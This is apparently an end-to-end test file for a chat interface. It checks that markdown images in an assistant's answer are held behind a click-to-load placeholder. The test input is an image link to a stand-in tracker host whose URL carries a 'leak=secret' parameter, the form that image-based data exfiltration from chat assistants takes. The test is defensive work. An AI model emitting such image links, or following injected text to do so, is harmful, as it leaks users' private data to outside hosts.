import { expect, test } from "./support";

// A 1×1 transparent PNG.
const PIXEL = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=", "base64");

test("an image in an answer is not fetched until the reader clicks its placeholder", async ({ page, chat }) => {
  const requests: string[] = [];
  await page.route("https://tracker.example/**", (route) => {
    requests.push(route.request().url());
    return route.fulfill({ status: 200, contentType: "image/png", body: PIXEL });
  });
  // The offline model quotes the message back, so its answer carries this markdown image.
  await chat.startConversation("![pixel](https://tracker.example/p.png?leak=secret)");
  await chat.waitForAnswerToFinish();
  const answer = chat.assistantMessages.last();
  await expect(answer.getByTestId("image-placeholder")).toContainText("tracker.example");
  await expect(answer.locator("img")).toHaveCount(0);
  await page.waitForTimeout(500);
  expect(requests).toEqual([]);

  await answer.getByTestId("image-placeholder").click();
  await expect(answer.locator("img")).toHaveAttribute("src", "https://tracker.example/p.png?leak=secret");
  await expect.poll(() => requests).toEqual(["https://tracker.example/p.png?leak=secret"]);
});
